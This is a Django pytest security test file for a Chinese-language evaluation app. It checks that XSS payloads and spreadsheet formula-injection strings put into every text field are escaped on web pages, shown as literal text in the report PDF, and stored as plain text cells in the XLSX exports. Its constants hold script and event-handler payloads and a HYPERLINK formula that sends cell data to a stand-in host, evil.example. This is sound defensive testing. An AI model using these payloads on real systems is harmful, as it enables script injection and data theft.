"""User text of the evaluation in pages, the report PDF and the XLSX files.

Every free-text field holds the XSS payload: the year's unit and fund, the narrative sections, indicator names,
targets and scoring rules, deviation reasons, judgement bases, evidence descriptions and names, imported
statistics notes and the import's file name, the survey's title, introduction and questions, the enterprises'
survey comments (typed by enterprises), the monitoring plan (and the indicator names frozen into its entries).

Pages (staff's and the enterprise's) show it escaped, never as markup. The report PDF, made through the real
path (button, job, download), shows it as literal text (pdftotext). The XLSX files (the self-evaluation table
of the report, the monitoring export) hold only plain text cells: no formula cell anywhere, and text starting
with = + - @ tab or CR is a quoted text cell."""

from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts.roles import Role
from evaluation.constants import Grade, JobStatus, StatisticKey
from evaluation.models import Indicator, NarrativeSection, ReportJob, StatisticFigure
from evaluation.services import judgements, monitoring, statistics, surveys, years
from tests.factories.applications import MINIMAL_PDF
from tests.factories.evaluation import year_with_catalogue
from tests.helpers import needs_pdftotext, pdf_text, xlsx_cells
from tests.security.test_evaluation_uploads import template_with

pytestmark = pytest.mark.django_db

XSS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
SHORT_XSS = "<script>alert(1)</script>"  # for fields of up to 50 characters
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
NAME_XSS = "<b onmouseover=alert(1)>批复"  # a file name (no slash: a path is refused)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
JUDGED = 2


def put_text(year, actor, text, *, formulas=False):
    """``text`` into every free-text field of ``year`` through the services (what the forms call).

    With ``formulas`` the indicator names and deviation reasons get the formula-like texts as well."""
    years.year_update_settings(actor=actor, year=year, data={"unit_name": text[:100], "fund_name": text[:100]})
    for key in NarrativeSection.objects.filter(year=year).values_list("key", flat=True):
        years.section_update(actor=actor, year=year, key=key, body=f"{text}\n第二段{text}")
    for number in (1, 11, 12):
        ind = Indicator.objects.get(year=year, number=number)
        ind.name, ind.target_text, ind.scoring_rule = text[:100], SHORT_XSS, text
        years.indicator_save(actor=actor, indicator=ind, fields=["name", "target_text", "scoring_rule"])
        years.deviation_reason_update(actor=actor, indicator=ind, reason=text)
    if formulas:
        for number, formula in zip((3, 4, 5, 6, 7, 8), FORMULAS, strict=True):
            ind = Indicator.objects.get(year=year, number=number)
            ind.name = formula
            years.indicator_save(actor=actor, indicator=ind, fields=["name"])
            years.deviation_reason_update(actor=actor, indicator=ind, reason=formula)
    judged = Indicator.objects.get(year=year, number=JUDGED)
    judgements.judgement_save(actor=actor, indicator=judged, grade=Grade.ACHIEVED, points=Decimal("3.6"), basis=text)
    judgements.evidence_add(actor=actor, indicator=judged, name=f"{NAME_XSS}.pdf", data=MINIMAL_PDF,
                            description=text[:200])
    statistics.statistics_import(actor=actor, year=year, filename=f"{NAME_XSS}.xlsx", data=template_with(
        year, {StatisticKey.MFG_VALUE_ADDED_GROWTH: 11.8, "note": text[:500]}))


def hostile_survey(year, actor, enterprise, text):
    survey = surveys.survey_create(actor=actor, year=year, title=text, intro=text, scope="selected",
                                   questions=[text], organisations=[enterprise.organisation])
    survey = surveys.survey_open(actor=actor, survey=survey)
    surveys.response_submit(actor=enterprise, survey=survey, ratings={survey.questions.get().pk: 4}, comment=text)
    return survey


@pytest.fixture
def hostile(user_for):
    year = year_with_catalogue(2021)
    city, enterprise = user_for(Role.CITY), user_for(Role.ENTERPRISE)
    put_text(year, city, XSS, formulas=True)
    survey = hostile_survey(year, city, enterprise, XSS)
    snapshot = monitoring.snapshot_create(actor=city, year=year, taken_on=date(2021, 6, 30),
                                          second_half_plan=f"{XSS}\n{FORMULAS[0]}")
    return year, city, enterprise, survey, snapshot


def assert_escaped(body, where):
    assert "<script>alert(1)" not in body and "<b onmouseover" not in body, where
    assert "<img src=x onerror" not in body and "<img src=\"x\" onerror" not in body, where


def test_the_payload_is_escaped_on_every_evaluation_page(hostile, client_for):
    year, city, enterprise, survey, snapshot = hostile
    staff = client_for(city)
    pages = [reverse("evaluation:index")] + [
        reverse(f"evaluation:{name}", args=[2021])
        for name in ("year_detail", "year_settings", "narrative", "indicator_list", "weights", "statistics",
                     "survey_list", "monitoring_list", "report")] + [
        reverse("evaluation:indicator_detail", args=[2021, n]) for n in (1, 11, JUDGED)] + [
        reverse("evaluation:indicator_edit", args=[2021, 11]),
        reverse("evaluation:survey_detail", args=[2021, survey.pk]),
        reverse("evaluation:monitoring_detail", args=[2021, snapshot.pk])]
    shown = 0
    for url in pages:
        response = staff.get(url)
        assert response.status_code == 200, url
        body = response.content.decode()
        assert_escaped(body, url)
        shown += ESCAPED in body
    assert shown >= 12, "the payload should be visible (escaped) on most pages"
    survey_page = staff.get(reverse("evaluation:survey_detail", args=[2021, survey.pk])).content.decode()
    assert survey_page.count(ESCAPED) >= 3  # title, question and the enterprise's comment
    own = client_for(enterprise)
    for url in (reverse("evaluation:my_surveys"), reverse("evaluation:survey_answer", args=[survey.pk])):
        body = own.get(url).content.decode()
        assert_escaped(body, url)
        assert ESCAPED in body, url


def test_an_enterprise_comment_is_escaped_for_staff_and_kept_as_typed(hostile):
    _year, _city, _enterprise, survey, _snapshot = hostile
    assert survey.responses.get().comment == XSS  # stored as typed, escaped when shown


def report(client, django_capture_on_commit_callbacks):
    """Press "generate" as a user would; the job runs (eagerly in tests); download both files."""
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("evaluation:report_generate", args=[2021]))
    assert response.status_code == 302
    job = ReportJob.objects.latest("pk")
    assert job.status == JobStatus.DONE, job.error

    def download(kind):
        response = client.get(reverse("evaluation:report_download", args=[2021, job.pk, kind]))
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    return download("pdf"), download("xlsx")


@needs_pdftotext
def test_the_report_pdf_shows_the_payload_as_literal_text(hostile, client_for, tmp_path,
                                                          django_capture_on_commit_callbacks):
    pdf, _xlsx = report(client_for(hostile[1]), django_capture_on_commit_callbacks)
    text = "".join(pdf_text(pdf).split())  # CJK lines wrap anywhere: compare without whitespace
    literal = "".join(XSS.split())
    # the unit, the fund, 7 narrative sections (twice each), indicator names, scoring rules, reasons, the basis
    assert text.count(literal) >= 15, text.count(literal)
    assert text.count("".join(SHORT_XSS.split())) >= text.count(literal) + 3  # the worded targets too
    assert b"/JavaScript" not in pdf and b"/JS " not in pdf and b"/URI (x)" not in pdf


def newlines(text):
    return text.replace("\r\n", "\n").replace("\r", "\n")  # XML turns a CR into a line feed


def assert_plain_text_cells(all_cells, expected_texts):
    formulas = [c.coordinate for c in all_cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    for text in expected_texts:
        holding = [c for c in all_cells if isinstance(c.value, str) and newlines(c.value.lstrip("'")) == newlines(text)]
        assert holding, f"{text!r} is not in any cell"
        for c in holding:
            assert c.data_type == "s", (c.coordinate, c.data_type)
            if text[:1] in "=+-@\t\r":
                assert c.quotePrefix or c.value.startswith("'"), f"{c.coordinate} {text!r} is not neutralised"


def test_the_report_xlsx_has_only_plain_text_cells(hostile, client_for, django_capture_on_commit_callbacks):
    _pdf, xlsx = report(client_for(hostile[1]), django_capture_on_commit_callbacks)
    assert_plain_text_cells(xlsx_cells(xlsx), [XSS, *FORMULAS])


def test_the_monitoring_xlsx_has_only_plain_text_cells(hostile, client_for):
    year, city, _enterprise, _survey, snapshot = hostile
    response = client_for(city).get(reverse("evaluation:monitoring_export", args=[2021, snapshot.pk]))
    assert response.status_code == 200
    all_cells = xlsx_cells(response.content)
    assert_plain_text_cells(all_cells, [XSS, *FORMULAS])
    assert any(c.value == f"{XSS}\n{FORMULAS[0]}" for c in all_cells)


def test_the_statistics_template_and_a_formula_note_round_trip_as_text(hostile, client_for):
    """The downloaded template has no formula cell; a note written like a formula is imported as its text."""
    year, city, *_rest = hostile
    template = client_for(city).get(reverse("evaluation:statistics_template", args=[2021])).content
    assert not [c for c in xlsx_cells(template) if c.data_type == "f"]
    statistics.statistics_import(actor=city, year=year, filename="统计.xlsx", data=template_with(
        year, {StatisticKey.MFG_VALUE_ADDED_GROWTH: 11.8, "note": "+86 0371 6666"}))
    figure = StatisticFigure.objects.get(year=year, key=StatisticKey.MFG_VALUE_ADDED_GROWTH)
    assert figure.note == "+86 0371 6666"
    fed = Indicator.objects.get(year=year, source_key=StatisticKey.MFG_VALUE_ADDED_GROWTH)
    page = client_for(city).get(reverse("evaluation:indicator_detail", args=[2021, fed.number])).content.decode()
    assert "+86 0371 6666" in page
